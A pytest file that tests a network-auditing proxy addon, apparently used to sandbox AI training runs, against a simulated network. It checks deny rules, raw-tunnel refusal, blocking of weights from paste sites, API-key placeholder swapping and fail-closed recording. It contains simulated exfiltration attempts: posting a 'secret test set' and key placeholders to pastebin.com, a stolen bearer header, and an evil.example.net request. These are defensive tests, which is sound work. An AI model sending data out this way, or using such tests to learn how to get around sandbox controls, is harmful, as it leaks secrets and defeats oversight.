"""The addon through a real mitmdump, against simnet, with requests as the client."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
import requests

from ptaudit.core.blobs import BlobStore
from tests.net.support import ALLOW, BASE, PLACEHOLDER, REAL_KEY, Harness, session
from tests.simnet import SimNet, make_safetensors


@pytest.fixture
def world_proxy(harness: Harness, simnet: SimNet):
    return harness.proxy(harness.config(simnet.world_hosts))


def test_allowed_request_is_recorded_with_body_blob(harness: Harness, world_proxy) -> None:
    r = session(world_proxy).get("https://huggingface.co/api/models/Org/Base", timeout=10)
    assert r.status_code == 200 and r.json()["id"] == "Org/Base"
    req = harness.wait(lambda e: e.kind == "net.request")[0]
    resp = harness.wait(lambda e: e.kind == "net.response")[0]
    assert req.data["url"] == "https://huggingface.co/api/models/Org/Base"  # original URL, not the world server
    assert req.data["upstream"].startswith("http://127.0.0.1:")
    assert resp.data["status"] == 200 and resp.data["sniff"] == "json"
    assert resp.data["sha256"] == hashlib.sha256(r.content).hexdigest()
    assert BlobStore(harness.rundir / "blobs").read(resp.data["blobs"][0]) == r.content


def test_denied_host_gets_error_and_blocked_event(harness: Harness, simnet: SimNet) -> None:
    p = harness.proxy(harness.config(simnet.world_hosts, allow=[a for a in ALLOW if a != "pastebin.com"],
                                     deny=["pastebin.com"]))
    r = session(p).post("http://pastebin.com/api/paste", data=b"secret test set", timeout=10)
    assert r.status_code == 403 and "network.deny_hosts" in r.text
    ev = harness.wait(lambda e: e.kind == "net.blocked")[0]
    assert ev.data["rule"] == "network.deny_hosts" and ev.data["host"] == "pastebin.com"
    resp = harness.wait(lambda e: e.kind == "net.response")[0]  # the exfil attempt's body is still evidence
    assert resp.data["blocked"] and resp.data["request_body"]["size"] == len(b"secret test set")
    assert simnet.paste.pastes == {}
    # HTTPS: the tunnel opens without dialling anything, so the request inside is recorded
    # (headers included) and refused with the rule's error; the upstream never sees it.
    r = session(p).get("https://pastebin.com/raw/p0", headers={"Authorization": "Bearer found-key"}, timeout=10)
    assert r.status_code == 403 and "network.deny_hosts" in r.text
    req = harness.wait(lambda e: e.kind == "net.request" and e.data["url"] == "https://pastebin.com/raw/p0")[0]
    assert req.data["blocked"] and ["Authorization", "Bearer found-key"] in [list(h) for h in req.data["headers"]]
    assert simnet.services["pastebin.com"].requests == []


def test_raw_tunnel_to_denied_host_is_refused_before_connecting(harness: Harness, simnet: SimNet) -> None:
    # CONNECT succeeds without dialling anything; the first non-TLS, non-HTTP bytes make
    # it a raw TCP tunnel, and server_connect refuses it: the server never hears of it.
    import socket

    p = harness.proxy(harness.config(simnet.world_hosts, allow=[a for a in ALLOW if a != "pastebin.com"],
                                     deny=["pastebin.com"]))
    port = simnet.services["pastebin.com"].url.rsplit(":", 1)[1]
    with socket.create_connection(("127.0.0.1", p.port), timeout=10) as c:
        c.sendall(f"CONNECT pastebin.com:{port} HTTP/1.1\r\nHost: pastebin.com:{port}\r\n\r\n".encode())
        assert c.recv(1024).startswith(b"HTTP/1.1 200")
        c.sendall(b"SSH-2.0-OpenSSH_9.0\r\n")
        c.settimeout(10)
        try:
            while c.recv(4096):
                pass
        except (ConnectionResetError, TimeoutError):
            pass
    ev = harness.wait(lambda e: e.kind == "net.blocked" and e.data.get("stage") == "server_connect")
    assert ev[0].data["host"] == "pastebin.com"
    assert simnet.services["pastebin.com"].requests == []


def test_non_base_model_repo_is_blocked(harness: Harness, world_proxy) -> None:
    s = session(world_proxy)
    r = s.get(f"https://huggingface.co/{BASE.other_model}/resolve/main/model.safetensors", timeout=10)
    assert r.status_code == 403 and "net.hf-other-models" in r.text
    assert s.get(f"https://huggingface.co/api/models/{BASE.other_model}", timeout=10).status_code == 403
    ev = harness.wait(lambda e: e.kind == "net.blocked", count=2)
    assert {e.data["rule"] for e in ev} == {"net.hf-other-models"}


def test_weights_from_paste_site_blocked_by_content(harness: Harness, world_proxy, simnet: SimNet) -> None:
    simnet.paste.pastes["w1"] = make_safetensors()  # small: buffered, replaced by a 403
    simnet.paste.pastes["w2"] = make_safetensors({"w": ("F32", [512, 1024])})  # 2 MiB: streamed, cut off
    s = session(world_proxy)
    r = s.get("https://pastebin.com/raw/w1", timeout=10)
    assert r.status_code == 403 and "net.weights-elsewhere" in r.text
    with pytest.raises(requests.exceptions.RequestException):
        r = s.get("https://pastebin.com/raw/w2", timeout=10)
        r.raise_for_status()
        assert len(r.content) < 2 << 20  # never reached when the cut works
    stages = {e.data["stage"] for e in harness.wait(lambda e: e.kind == "net.blocked", count=2)}
    assert stages == {"response", "first_chunk"}
    simnet.paste.pastes["w3.safetensors"] = b"not sniffable"
    r = s.get("https://pastebin.com/raw/w3.safetensors", timeout=10)  # announced by name: blocked at headers
    assert r.status_code == 403


def test_unmapped_host_502_without_dns(harness: Harness, world_proxy) -> None:
    s = session(world_proxy)
    r = s.get("http://evil.example.net/x", timeout=10)
    assert r.status_code == 502 and "world.unmapped" in r.text
    r = s.get("https://evil.example.net/x", timeout=10)  # tunnel opens, nothing dialled, 502 inside
    assert r.status_code == 502 and "world.unmapped" in r.text
    ev = harness.wait(lambda e: e.kind == "net.blocked", count=2)
    assert {e.data["rule"] for e in ev} == {"world.unmapped"}
    # Inside the loopback-only namespace any lookup fails: a resolve attempt would show as
    # a DNS error, not as our 502 with the world rule.
    assert "resolution" not in world_proxy.log_tail() and "getaddrinfo" not in world_proxy.log_tail()


def test_loopback_not_in_world_refused(harness: Harness, world_proxy, simnet: SimNet) -> None:
    hub_port = simnet.services["huggingface.co"].port
    r = session(world_proxy).get(f"http://127.0.0.1:{hub_port}/api/models/Org/Base", timeout=10)
    assert r.status_code in (403, 502)
    assert simnet.services["huggingface.co"].requests == [] or all(
        q.host != "127.0.0.1" for q in simnet.services["huggingface.co"].requests)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_private_destinations_refused_without_world(harness: Harness, simnet: SimNet, host: str) -> None:
    p = harness.proxy(harness.config(None, default="allow", allow=[]))
    port = simnet.services["huggingface.co"].port
    before = len(simnet.services["huggingface.co"].requests)
    r = session(p).get(f"http://{host}:{port}/api/models/Org/Base", timeout=10)
    assert r.status_code in (403, 502)
    assert len(simnet.services["huggingface.co"].requests) == before
    ev = harness.wait(lambda e: e.kind == "net.blocked")[0]
    assert ev.data["rule"] in ("network.private_address", "network.upstream_address")


def test_https_needs_the_proxy_ca(harness: Harness, world_proxy, tmp_path: Path) -> None:
    assert session(world_proxy).get("https://pypi.org/simple/tinypkg/", timeout=10).status_code == 200
    with pytest.raises(requests.exceptions.SSLError):
        session(world_proxy, ca=False or None).get("https://pypi.org/simple/tinypkg/", timeout=10, verify=True)
    harness.wait(lambda e: e.kind == "net.tls_failed")


def test_https_upstream_world(harness: Harness, simnet_tls: SimNet) -> None:
    p = harness.proxy(harness.config(simnet_tls.world_hosts), upstream_ca=simnet_tls.ca_path)
    r = session(p).get("https://huggingface.co/api/models/Org/Base", timeout=10)
    assert r.status_code == 200
    assert harness.wait(lambda e: e.kind == "net.request")[0].data["upstream"].startswith("https://127.0.0.1:")


def test_placeholder_swapped_only_for_api_host(harness: Harness, world_proxy, simnet: SimNet) -> None:
    s = session(world_proxy)
    r = s.post("https://api.openai.com/v1/chat/completions", json={"model": "m", "messages": []},
               headers={"Authorization": f"Bearer {PLACEHOLDER}"}, timeout=10)
    assert r.status_code == 200 and simnet.openai.keys_seen[-1] == REAL_KEY
    r = s.post("https://api.anthropic.com/v1/messages", json={"model": "m"}, headers={"x-api-key": PLACEHOLDER},
               timeout=10)
    assert simnet.anthropic.keys_seen[-1] == PLACEHOLDER  # not the task's api host: no swap
    r = s.get("https://api.openai.com/v1/debug/echo-auth", headers={"Authorization": f"Bearer {PLACEHOLDER}"},
              timeout=10)
    assert REAL_KEY not in r.text and REAL_KEY not in str(r.headers)  # an echoing upstream leaks nothing
    s.post("https://pastebin.com/api/paste", data=f"key={PLACEHOLDER}".encode(), timeout=10)
    seen = harness.wait(lambda e: e.kind == "net.placeholder_seen", count=2)
    assert {e.data["host"] for e in seen} >= {"api.anthropic.com", "pastebin.com"}
    harness.wait(lambda e: e.kind == "net.response", count=4)
    inj = [e for e in harness.events("net.request") if e.data["injected"]]
    assert len(inj) == 2
    world_proxy.stop()
    for f in harness.rundir.rglob("*"):
        if f.is_file():
            assert REAL_KEY.encode() not in f.read_bytes(), f


def test_recorder_down_fails_closed(harness: Harness, world_proxy) -> None:
    s = session(world_proxy)
    assert s.get("http://pypi.org/simple/tinypkg/", timeout=10).status_code == 200
    harness.stop_recorder()
    import time
    time.sleep(0.5)
    r = s.get("http://pypi.org/simple/tinypkg/", timeout=10)
    assert r.status_code == 503 and "recorder" in r.text


def test_proxy_death_is_observable(harness: Harness, world_proxy) -> None:
    import threading
    died = threading.Event()
    codes: list[int | None] = []
    world_proxy.watch(lambda rc: (codes.append(rc), harness.recorder.emit("net", "net.proxy_died", {"returncode": rc}),
                                  died.set()))
    s = session(world_proxy)
    assert s.get("http://pypi.org/simple/tinypkg/", timeout=10).status_code == 200
    world_proxy.proc.kill()
    assert died.wait(5) and codes == [-9]
    with pytest.raises(requests.exceptions.ConnectionError):
        s.get("http://pypi.org/simple/tinypkg/", timeout=5)
    assert harness.events("net.proxy_died")


def test_har_export(harness: Harness, world_proxy) -> None:
    from ptaudit.app.report.har import export_har

    s = session(world_proxy)
    s.get("https://huggingface.co/api/models/Org/Base", timeout=10)
    s.post("http://pastebin.com/api/paste", data=b"hello", headers={"Content-Type": "text/plain"}, timeout=10)
    s.get(f"https://huggingface.co/{BASE.other_model}/resolve/main/model.safetensors", timeout=10)
    harness.wait(lambda e: e.kind == "net.response", count=3)
    har = export_har(harness.rundir)
    entries = har["log"]["entries"]
    assert har["log"]["version"] == "1.2" and len(entries) == 3
    by_url = {e["request"]["url"]: e for e in entries}
    ok = by_url["https://huggingface.co/api/models/Org/Base"]
    assert ok["response"]["status"] == 200 and '"Org/Base"' in ok["response"]["content"]["text"]
    assert by_url["http://pastebin.com/api/paste"]["request"]["postData"]["text"] == "hello"
    blocked = by_url[f"https://huggingface.co/{BASE.other_model}/resolve/main/model.safetensors"]
    assert blocked["response"]["status"] == 403 and blocked["_ptaudit"]["rule"] == "net.hf-other-models"
    import json
    json.dumps(har)  # serialisable as is
